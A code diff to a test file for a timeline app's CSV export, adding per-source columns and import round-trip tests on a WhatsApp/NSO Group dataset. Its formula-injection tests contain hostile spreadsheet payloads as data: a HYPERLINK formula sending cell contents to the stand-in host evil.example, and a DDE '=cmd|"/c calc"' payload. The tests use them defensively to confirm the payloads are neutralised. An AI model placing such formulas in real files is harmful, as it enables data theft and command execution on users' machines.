@@ -2,7 +2,8 @@
 import { describe, it, expect } from 'vitest';
 import fc from 'fast-check';
 import { csvParse } from 'd3-dsv';
-import { eventsCsv, eventsTimeline, CSV_COLUMNS } from '../../src/lib/export/data';
+import { eventsCsv, eventsTimeline, CSV_COLUMNS, SOURCE_COLUMNS, sourceColumn } from '../../src/lib/export/data';
+import { importTimeline } from '../../src/lib/import';
 import { exportFileName } from '../../src/lib/export/names';
 import { validateTimeline } from '../../src/lib/model/validate';
 import { problemLine } from '../../src/lib/model/problems';
@@ -21,7 +22,9 @@ const byId = new Map(items.map((item) => [item.id, item]));
 const pick = (...ids: string[]) => ids.map((id) => byId.get(id)!);
 
 type Texts = Record<string, string>;
-const rawEvent = (raw.events as { id: string; title: Texts; actors: string[]; category: string; sources: { publisher: string; url: string }[] }[]).find((e) => e.id === 'ft-report')!;
+type RawSource = { publisher: string; title: Texts | string; url: string; published?: string; quote?: string; primary?: boolean };
+type RawEvent = { id: string; title: Texts; description: Texts; actors: string[]; category: string; importance?: number; sources: RawSource[] };
+const rawEvent = (raw.events as RawEvent[]).find((e) => e.id === 'ft-report')!;
 const rawName = (list: string, id: string, lang: string) => ((raw[list] as { id: string; name: Texts }[]).find((x) => x.id === id)!.name[lang]);
 
 /** The CSV's rows, parsed back as a spreadsheet would, after checking and removing the byte-order mark. */
@@ -38,12 +41,18 @@ function withEvent(id: string, change: (e: TimelineEvent) => void): { t: Timelin
 }
 
 describe('eventsCsv', () => {
-	it('writes one row per item in the given order under the exact English header', () => {
+	it('writes one row per item in the given order under the exact English header, with a group of columns per source', () => {
 		const reversed = [...items].reverse();
 		const csv = eventsCsv(timeline, reversed, 'ar', 'UTC');
-		expect(csv.slice(1, csv.indexOf('\n'))).toBe('id,start,end,date,precision,title,actors,category,status,sources,source_urls');
+		const most = Math.max(...items.map((i) => i.event.sources.length));
+		expect(most).toBeGreaterThan(2);
+		const header = csv.slice(1, csv.indexOf('\n'));
+		expect(header).toMatch(
+			/^id,start,end,part,date,precision,title,description,actors,category,status,importance,time_zone,source_url,source_publisher,source_title,source_published,source_quote,source_primary,source2_url,source2_publisher,/
+		);
 		const rows = parse(csv);
-		expect(rows.columns).toEqual([...CSV_COLUMNS]);
+		expect(rows.columns).toEqual([...CSV_COLUMNS, ...Array.from({ length: most }, (_, k) => SOURCE_COLUMNS.map((c) => sourceColumn(k + 1, c))).flat()]);
+		expect(rows.columns.at(-1)).toBe(`source${most}_primary`);
 		expect(rows.map((r) => r.id)).toEqual(reversed.map((i) => i.id));
 	});
 
@@ -55,13 +64,28 @@ describe('eventsCsv', () => {
 			end: '',
 			date: '13\u2009–\u200914 May 2019',
 			precision: 'day',
+			part: '',
 			title: rawEvent.title.en,
+			description: rawEvent.description.en,
 			actors: rawEvent.actors.map((a) => rawName('actors', a, 'en')).join('; '),
 			category: rawName('categories', rawEvent.category, 'en'),
 			status: 'confirmed',
-			sources: rawEvent.sources.map((s) => s.publisher).join('; '),
-			source_urls: rawEvent.sources.map((s) => s.url).join(' ')
+			importance: String(rawEvent.importance),
+			time_zone: '',
+			...Object.fromEntries(
+				rawEvent.sources.flatMap((s, k) => [
+					[sourceColumn(k + 1, 'url'), s.url],
+					[sourceColumn(k + 1, 'publisher'), s.publisher],
+					[sourceColumn(k + 1, 'title'), typeof s.title === 'string' ? s.title : s.title.en],
+					[sourceColumn(k + 1, 'published'), s.published ?? ''],
+					[sourceColumn(k + 1, 'quote'), s.quote ?? ''],
+					[sourceColumn(k + 1, 'primary'), s.primary ? 'yes' : '']
+				])
+			),
+			// Columns of sources that other events have and this one does not.
+			...Object.fromEntries(Object.keys(row).filter((c) => /^source(\d+)_/.exec(c) && Number(/^source(\d+)_/.exec(c)![1]) > rawEvent.sources.length).map((c) => [c, '']))
 		});
+		expect(rawEvent.sources.length).toBeGreaterThan(1);
 		expect(row.actors).toBe('WhatsApp; Financial Times; NSO Group');
 	});
 
@@ -90,18 +114,21 @@ describe('eventsCsv', () => {
 		expect(rows[1].start).toBe('2019-05-14T19:52:40Z');
 	});
 
-	it('gives every event’s source URLs back when the cell is split on spaces', () => {
+	it('gives every event’s source URLs back, in order, from its source columns', () => {
 		const rows = parse(eventsCsv(timeline, items, 'en', 'UTC'));
-		rows.forEach((row, i) => expect(row.source_urls!.split(' ')).toEqual(items[i].event.sources.map((s) => s.url)));
+		const urls = (row: Record<string, string | undefined>) => Array.from({ length: 99 }, (_, k) => row[sourceColumn(k + 1, 'url')]).filter(Boolean);
+		rows.forEach((row, i) => expect(urls(row)).toEqual(items[i].event.sources.map((s) => s.url)));
 	});
 
-	it('leaves sources and source_urls empty for an unsourced event', () => {
+	it('writes an unsourced event with no source columns, or empty ones when another event has sources', () => {
 		const { t, item } = withEvent('nso-denial', (e) => {
 			e.sources = [];
 			e.unsourced = true;
 		});
-		const [row] = parse(eventsCsv(t, [item], 'en', 'UTC'));
-		expect([row.sources, row.source_urls]).toEqual(['', '']);
+		const alone = parse(eventsCsv(t, [item], 'en', 'UTC'));
+		expect(alone.columns).toEqual([...CSV_COLUMNS]);
+		const [row] = parse(eventsCsv(t, [item, byId.get('ft-report')!], 'en', 'UTC'));
+		expect(Object.entries(row).filter(([c, v]) => c.startsWith('source') && v !== '')).toEqual([]);
 	});
 
 	it.each(['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
@@ -122,7 +149,7 @@ describe('eventsCsv', () => {
 		const [row] = parse(eventsCsv(t, toItems(t).filter((i) => i.id === 'ft-report'), 'en', 'UTC'));
 		expect(row.actors).toBe(`'=cmd|"/c calc"!A1; Financial Times; NSO Group`);
 		expect(row.category).toBe(`'@disclosure`);
-		expect(row.sources!.startsWith(`'-The National; Clayton Rice`)).toBe(true);
+		expect([row.source_publisher, row.source2_publisher]).toEqual([`'-The National`, 'Clayton Rice']);
 		expect(row.title).toBe(rawEvent.title.en);
 		expect(row.id).toBe('ft-report');
 	});
@@ -134,6 +161,40 @@ describe('eventsCsv', () => {
 			const rows = parse(eventsCsv(t, [item, byId.get('nso-denial')!], lang, 'UTC'));
 			expect(rows.map((r) => r.title)).toEqual([title[lang], (byId.get('nso-denial')!.event.title as Texts)[lang]]);
 		}
+	});
+});
+
+describe('eventsCsv, opened again by the import', () => {
+	/** The timeline the importer makes of the CSV of all events in `lang`. */
+	function reopened(lang: 'en' | 'ar') {
+		const result = importTimeline(eventsCsv(timeline, items, lang, 'UTC'), { name: 'whatsapp.csv', lang, today: '2026-12-06' });
+		if (!result.ok) throw new Error(result.message);
+		return result;
+	}
+
+	it.each(['en', 'ar'] as const)('gives back every event with its dates, texts, names and sources in %s', (lang) => {
+		const result = reopened(lang);
+		const name = (list: 'actors' | 'categories', id: string) => (timeline[list].find((x) => x.id === id)!.name as Texts)[lang];
+		const text = (v: Texts | string) => (typeof v === 'string' ? v : v[lang]);
+		expect(result.timeline.events).toHaveLength(timeline.events.length);
+		const back = new Map(result.timeline.events.map((e) => [e.id, e]));
+		const actorName = new Map(result.timeline.actors.map((a) => [a.id, text(a.name as Texts)]));
+		const categoryName = new Map(result.timeline.categories.map((c) => [c.id, text(c.name as Texts)]));
+		for (const e of timeline.events) {
+			const b = back.get(e.id)!;
+			expect([b.start, b.end, b.part, b.status, b.importance, b.timeZone]).toEqual([e.start, e.end, e.part, e.status, e.importance, e.timeZone]);
+			expect([text(b.title as Texts), text(b.description as Texts)]).toEqual([text(e.title as Texts), text(e.description as Texts)]);
+			expect(b.actors.map((a) => actorName.get(a))).toEqual(e.actors.map((a) => name('actors', a)));
+			expect(categoryName.get(b.category)).toBe(name('categories', e.category));
+			expect(b.sources.map((s) => ({ ...s, title: text(s.title as Texts) }))).toEqual(e.sources.map((s) => ({ ...s, title: text(s.title as Texts) })));
+			expect(b.unsourced).toBe(e.unsourced);
+		}
+	});
+
+	it('notes the columns written for reading as not read, and no source left out', () => {
+		const notes = reopened('en').notes.map((n) => `${n.where}: ${n.message}`);
+		expect(notes).toContain('column "date": not read: the dates come from "start" and "end" (the app\'s CSV export writes this column for reading)');
+		expect(notes.filter((n) => /source|not carried over/.test(n))).toEqual([]);
 	});
 });
 
